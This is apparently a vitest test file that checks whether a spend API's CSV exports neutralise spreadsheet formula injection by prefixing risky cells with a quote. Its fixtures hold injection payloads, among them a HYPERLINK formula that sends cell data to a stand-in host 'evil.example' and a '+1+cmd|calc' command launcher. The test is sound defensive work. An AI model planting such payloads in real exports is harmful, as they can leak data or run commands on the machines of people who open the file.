import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { usersCsv } from "../workers/spend/users";
import { call, createKey } from "./support/worker";

/** End users a spreadsheet would run as formulas, were they written as they are. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1)", "+1+cmd|calc"];
/** A tag value may start with "-" ([A-Za-z0-9_.:-]): "-2-3" is a formula too. */
const DASHED_TAG = "-2-3";

/** One call for each formula end user, every call tagged `channel=-2-3`; answers the key. */
async function callsByFormulaUsers() {
  const { id, key } = await createKey();
  for (const user of FORMULAS) {
    const res = await call("/v1/summarize", { token: key, headers: { "x-nanometer-user": user, "x-nanometer-tags": `channel=${DASHED_TAG}` }, body: { text: "A report." } });
    expect(res.status).toBe(200);
  }
  return { id, key };
}

async function csvRecords(path: string, token?: string): Promise<Record<string, string>[]> {
  const res = await call(path, { token });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return parse(await res.text(), { columns: true });
}

const quotedFormulas = FORMULAS.map((user) => `'${user}`).sort();

describe("CSV cells a spreadsheet would run", () => {
  it("start with a ' in every CSV the spend API writes, for the key and for the admin", async () => {
    const { id, key } = await callsByFormulaUsers();
    const users = await csvRecords("/v1/spend/users?format=csv", key);
    expect(users.map((r) => r.end_user).sort()).toEqual(quotedFormulas);
    const byUser = await csvRecords("/v1/spend?group_by=user&format=csv", key);
    expect(byUser.map((r) => r.end_user).sort()).toEqual(quotedFormulas);
    const byTag = await csvRecords("/v1/spend?group_by=tag:channel&format=csv", key);
    expect(byTag.map((r) => r["tag:channel"])).toEqual([`'${DASHED_TAG}`]);
    // The admin's export, every key's rows in one file.
    const mine = async (path: string) => (await csvRecords(path)).filter((r) => r.key_id === id);
    expect((await mine("/v1/spend?group_by=key,user&format=csv")).map((r) => r.end_user).sort()).toEqual(quotedFormulas);
    expect((await mine("/v1/spend?group_by=key,tag:channel&format=csv")).map((r) => r["tag:channel"])).toEqual([`'${DASHED_TAG}`]);
    expect((await mine("/v1/spend/users?format=csv")).map((r) => r.end_user).sort()).toEqual(quotedFormulas);
    // The counts and money stay numbers.
    expect(users.every((r) => /^\d+$/.test(r.requests!) && /^\d+\.\d{12}$/.test(r.cost_usd!))).toBe(true);
  });

  it("leaves numbers as they are: a negative saving is still a number", () => {
    const csv = usersCsv([
      {
        keyId: "key_a",
        endUser: "-ann",
        requests: 1,
        errors: 0,
        inputTokens: 10,
        cachedTokens: 0,
        cacheWriteTokens: 0,
        outputTokens: 5,
        reasoningTokens: 0,
        costPico: 300_000_000n,
        miniCostPico: 0n,
      },
    ]);
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ end_user: "'-ann", cost_usd: "0.000300000000", saved_usd: "-0.000300000000" });
  });
});
